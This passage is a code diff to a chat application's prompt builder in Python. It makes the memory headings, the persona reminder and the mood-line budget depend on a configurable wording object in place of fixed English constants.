-    room = layout.budget.memories + layout.budget.history - story - memory_frame_tokens()
+    room = layout.budget.memories + layout.budget.history - story - memory_frame_tokens(layout.words)
     while True:
         start = tail_start(layout.window, room - sum(map(memory_cost, memories)))
         left = [m for m in memories if m.index < start or not layout.window[m.index]]
@@ -7483,31 +8203,31 @@ def memory_cost(memory: Memory) -> int:
     return count_tokens(memory_line(memory)) + 1
 
 
-def memory_block(memories: Sequence[Memory]) -> str:
+def memory_block(memories: Sequence[Memory], words: Wording = ENGLISH) -> str:
     """The recalled memories in the order in which they happened, framed as the past; empty without any."""
     if not memories:
         return ""
-    return "\n".join([MEMORY_HEADING, *map(excerpt_text, neighbours(memories)), MEMORY_ENDING])
+    return "\n".join([words.memories, *map(excerpt_text, neighbours(memories)), words.end_of_memories])
 
 
 def fitting(
-    memories: Sequence[Memory], budget: int, block: Callable[[Sequence[Memory]], str] = memory_block
+    memories: Sequence[Memory], budget: int, words: Wording, block: Callable[..., str] = memory_block
 ) -> tuple[list[Memory], list[Memory]]:
     """As many of the memories, best first, as fit with their frame (as `block` writes it) into `budget` tokens; and the
     others."""
     kept = list(memories)
-    while kept and count_tokens(block(kept)) + FRAME_MARGIN > budget:
+    while kept and count_tokens(block(kept, words)) + FRAME_MARGIN > budget:
         kept.pop()
     return kept, list(memories[len(kept) :])
 
 
-def carried_block(memories: Sequence[Memory]) -> str:
+def carried_block(memories: Sequence[Memory], words: Wording = ENGLISH) -> str:
     """Memories of other chats, oldest first, marked as another time; empty without any."""
     if not memories:
         return ""
     ordered = sorted(memories, key=lambda m: (m.message.said_at, m.index))
     lines = [memory_line(replace(m, message=replace(m.message, timestamp=day_of(m.message)))) for m in ordered]
-    return "\n".join([CARRIED_HEADING, *lines, MEMORY_ENDING])
+    return "\n".join([words.carried, *lines, words.end_of_memories])
 
 
 def day_of(message: Message) -> str:
@@ -7515,15 +8235,15 @@ def day_of(message: Message) -> str:
     return datetime.fromtimestamp(message.said_at, UTC).date().isoformat()
 
 
-def memory_frame_tokens() -> int:
+def memory_frame_tokens(words: Wording) -> int:
     """Tokens that the block takes beside its lines, with what separates it from the message it may stand in."""
-    return count_tokens(f"{MEMORY_HEADING}\n{MEMORY_ENDING}") + FRAME_MARGIN
+    return count_tokens(f"{words.memories}\n{words.end_of_memories}") + FRAME_MARGIN
 
 
-def with_reminder(block: str, piece: str, room: int) -> tuple[str, str]:
+def with_reminder(block: str, piece: str, room: int, words: Wording = ENGLISH) -> tuple[str, str]:
     """What goes in front of the newest message, with a piece of the persona at its end where `room` tokens leave space
     for that; and the piece, empty where it was left out."""
-    line = f"[Keep in mind, from the description: {quoted(piece)}]" if piece else ""
+    line = words.keep_in_mind.format(piece=quoted(piece)) if piece else ""
     free = room - (count_tokens(block) + FRAME_MARGIN if block else 0)
     if not line or count_tokens(line) + FRAME_MARGIN > min(free, REMINDER_TOKENS):
         return block, ""
@@ -10508,7 +11228,6 @@ INJECTION_SECONDS = 0.7  # the same for an injection: a client gives it two seco
 SEARCH_SECONDS = 120.0  # a search waits longer than a turn: it was asked for
 ENCODED_AT_ONCE = 8  # missing vectors that a turn computes itself, the newest; more are left to the background
 READ_AT_ONCE = 256  # messages that a long job reads under a chat's lock before a turn may come between
-GUIDANCE_TOKENS = 48  # what is kept free for the line on the user's mood
 
 
 def note_failure(event: str, words: str, error: Exception, chat_id: str) -> str:
@@ -11068,6 +11787,7 @@ class Feelings:
     def _read_built_in(self, chat: Chat, unread: Mapping[str, str]) -> dict[str, EmotionReading]:
         """The built-in reader's readings by words alone; those with a vector become known ones."""
         vectors: dict[str, np.ndarray] = {}
+        words = chat.usual_wording
         if self._by_vector:
             vectors = {h: v for h in unread if (v := chat.index.vector(h)) is not None}
             unindexed = [h for h in unread if h not in vectors and not chat.index.lacks(h)]
@@ -11075,7 +11795,7 @@ class Feelings:
         fresh = {h: i for h, i in unread.items() if h in vectors or h not in chat.word_readings}
         messages = chat.store.read(list(fresh.values()))
         for text_hash, message in zip(fresh, messages, strict=True):
-            reading = read_emotion(message.content, vectors.get(text_hash))
+            reading = feeling_in(words, message.content, vectors.get(text_hash))
             sure = text_hash in vectors if self._by_vector else self._model is None
             (chat.readings if sure else chat.word_readings)[text_hash] = reading
         return {h: chat.word_readings[h] for h in unread if h not in chat.readings}
@@ -11112,10 +11832,11 @@ class Feelings:
 
     def guidance(self, turn: TurnContext, mood: Mood | None) -> str:
         """The line that tells the model how the user feels; empty where it has no room or nothing to say."""
-        if self._settings.no_guidance or turn.pivot is None or turn.layout.room < GUIDANCE_TOKENS:
+        words = turn.layout.words
+        if self._settings.no_guidance or turn.pivot is None or turn.layout.room < words.mood_tokens:
             return ""
-        line = guidance_line(mood, one_line(turn.pivot.name) or SPEAKERS["user"])
-        return line if count_tokens(line) + MESSAGE_OVERHEAD + 2 <= GUIDANCE_TOKENS else ""
+        line = guidance_line(mood, one_line(turn.pivot.name), words)
+        return line if count_tokens(line) + MESSAGE_OVERHEAD + 2 <= words.mood_tokens else ""
 
     def classify(self, text: str) -> EmotionReading:
         """What a text feels, by itself."""
@@ -11964,8 +12685,8 @@ class Recaller:
         """
         chat, layout = turn.chat, turn.layout
         share = self._share * memory_share(turn.pivot.content) if turn.pivot else 0
-        room = min(layout.room - GUIDANCE_TOKENS, int(share * layout.recalled))
-        recalls = bool(layout.reach) and room > memory_frame_tokens()
+        room = min(layout.room - layout.words.mood_tokens, int(share * layout.recalled))
+        recalls = bool(layout.reach) and room > memory_frame_tokens(layout.words)
         nothing = TOO_SMALL if layout.reach else ALL_SHOWN
         try:
             query = self._query(turn) if recalls else None
@@ -11977,7 +12698,7 @@ class Recaller:
                 memories = self._candidates(turn, query, vector, quoted)
             memories, late = self._reranked(query, memories, turn.deadline.left)
             with chat.lock:
-                kept, left_out = select_memories(chat, turn.visible, memories, query.words, room, self._price)
+                kept, left_out = select_memories(turn, memories, query.words, room, self._price)
             degraded = "; ".join(filter(None, (degraded, late)))
             nothing = "" if kept else SEE_LEFT_OUT if left_out else TALK if query.asks == TELLS else NOTHING_FITS
             return RecallResult(tuple(kept), tuple(left_out), degraded, nothing, query.words, vector)
@@ -12100,7 +12821,7 @@ class Recaller:
         try:
             if not (others := self._related_chats(turn.chat) if turn.pivot else []):
                 return []
-            taken = count_tokens(memory_block(memories)) + GUIDANCE_TOKENS + FRAME_MARGIN
+            taken = count_tokens(memory_block(memories, layout.words)) + layout.words.mood_tokens + FRAME_MARGIN
             room = min(layout.room - taken, layout.recalled - taken, int(CARRIED_SHARE * layout.recalled))
             found = [row for chat_id in others for row in self._found_in(chat_id, turn)] if room > 0 else []
             ranked = sorted(found, key=lambda row: -row[0].score)
@@ -12108,7 +12829,7 @@ class Recaller:
             costs = [memory_cost(m) for m, _ in ranked]
             texts, vectors = [m.message.content for m, _ in ranked], [v for _, v in ranked]
             chosen, _ = choose(likely, costs, alike(texts, vectors), room)
-            return fitting([ranked[i][0] for i in chosen], room, carried_block)[0]
+            return fitting([ranked[i][0] for i in chosen], room, layout.words, carried_block)[0]
         except Exception as error:
             note_failure("carry_over_failed", "Memories of other chats could not be recalled", error, turn.chat.id)
             return []
@@ -12195,21 +12916,21 @@ def duplicates_among(index: MemoryIndex, memories: Sequence[Memory]) -> Callable
 
 
 def select_memories(
-    chat: Chat, visible: Sequence[Node], memories: Sequence[Memory], words: Sequence[str], room: int, price: float
+    turn: TurnContext, memories: Sequence[Memory], words: Sequence[str], room: int, price: float
 ) -> tuple[list[Memory], list[dict]]:
     """Of candidates, best first, the memories that fit into `room` tokens, are worth their `price` a token, and repeat
     neither each other nor what the history shows; and what is left out, with the reason. Of one that is longer than
     `room` the sentence that says most of the query's `words` is taken."""
-    shown = shown_duplicates(chat, visible, memories)
+    shown = shown_duplicates(turn.chat, turn.visible, memories)
     left_out = [(memories[i], f"says the same as #{n.depth + 1}, which the prompt shows") for i, n in shown.items()]
     fresh = [m for i, m in enumerate(memories) if i not in shown]
     likely, costs = [relevance_probability(m.score, fresh[0].score) for m in fresh], list(map(memory_cost, fresh))
-    most = room - memory_frame_tokens()
+    most = room - memory_frame_tokens(turn.layout.words)
     for i in [i for i, cost in enumerate(costs) if cost > most]:  # in a small context, a long message would never fit
         fresh[i] = narrowed(fresh[i], words, most)
         costs[i] = memory_cost(fresh[i])
-    chosen, left = choose(likely, costs, duplicates_among(chat.index, fresh), most, price)
-    kept, over = fitting([fresh[i] for i in chosen], room)
+    chosen, left = choose(likely, costs, duplicates_among(turn.chat.index, fresh), most, price)
+    kept, over = fitting([fresh[i] for i in chosen], room, turn.layout.words)
     left_out += [(m, NO_ROOM) for m in over]
     for i, same in left.items():
         left_out.append((fresh[i], NO_ROOM if same is None else f"says the same as #{fresh[same].index + 1}"))
@@ -12280,7 +13001,7 @@ def branch_story(chat: Chat, path: Sequence[str], before: int, budget: int) -> S
         return Story()
     standing = places_on(chat, path).placed(chat.store.summaries.values())
     hidden = [s for s in standing if s.since < before]
-    return render_story(told_story(hidden), branch_facts(chat, path, before), budget)
+    return render_story(told_story(hidden), branch_facts(chat, path, before), budget, chat.wording(path))
 
 
 def story_reserve(chat: Chat, path: Sequence[str], budget: int) -> int:
@@ -12583,7 +13304,8 @@ class Summarizer:
         by_vector = self._embedder in BUNDLED_EMBEDDERS
         stored = chat.store.vectors(self._embedder, hashes) if by_vector else {}
         vectors = [stored.get(h) for h in hashes]
-        readings = [read_emotion(m.content, v) for m, v in zip(kept, vectors, strict=True)]
+        words = wording_for(m.content for m in kept)
+        readings = [feeling_in(words, m.content, v) for m, v in zip(kept, vectors, strict=True)]
         indexes = {m.id: start + i for i, m in enumerate(messages)}
         lines = [numbered_line(m, indexes[m.id], confident_label(r)) for m, r in zip(kept, readings, strict=True)]
         covered = sum(m.tokens for m in kept)
@@ -13232,8 +13954,10 @@ class PromptBuilder:
             older = chat.store.read([n.id for i, n in above_window if i not in layout.hidden])
         memories = [*recalled.memories, *self._recaller.carry_over(turn, recalled.memories)]
         carried = memories[len(recalled.memories) :]
-        parts = (memory_block(recalled.memories), carried_block(carried), self._feelings.guidance(turn, mood))
-        block, piece = with_reminder("\n".join(filter(None, parts)), piece, layout.room)
+        words = layout.words
+        told = memory_block(recalled.memories, words), carried_block(carried, words)
+        parts = (*told, self._feelings.guidance(turn, mood))
+        block, piece = with_reminder("\n".join(filter(None, parts)), piece, layout.room, words)
         self._status.log_text(request.turns[-1].role, request.turns[-1].content)
         return TurnMemory(turn, path, story, recalled, memories, mood, piece, block, older, plan, context)
 
@@ -13261,7 +13985,7 @@ class PromptBuilder:
         if layout.window:  # what the story leaves of its share lets in more of the chat, which needs no summary
             layout = with_memories(layout, story.tokens + layout.recalled)
             story = branch_story(chat, path, layout.anchor, story_budget)
-        return replace(layout, room=layout.room - story.tokens), story, plan
+        return replace(layout, room=layout.room - story.tokens, words=chat.wording(path)), story, plan
 
     def _mood(self, turn: TurnContext) -> Mood | None:
         """How the user feels by now, None where that cannot be told, or where a program asks. Never fails a turn."""
@@ -13317,7 +14041,7 @@ class PromptBuilder:
 
 def short_of_room(layout: Layout, tools: int) -> str:
     """Why a prompt has little room for memories, where messages are not in it and tools take that room; else empty."""
-    if not tools or not layout.reach or layout.recalled >= memory_frame_tokens() + LITTLE_ROOM:
+    if not tools or not layout.reach or layout.recalled >= memory_frame_tokens(layout.words) + LITTLE_ROOM:
         return ""
     return f"tools take {tools} tokens and leave little room for memories"
 
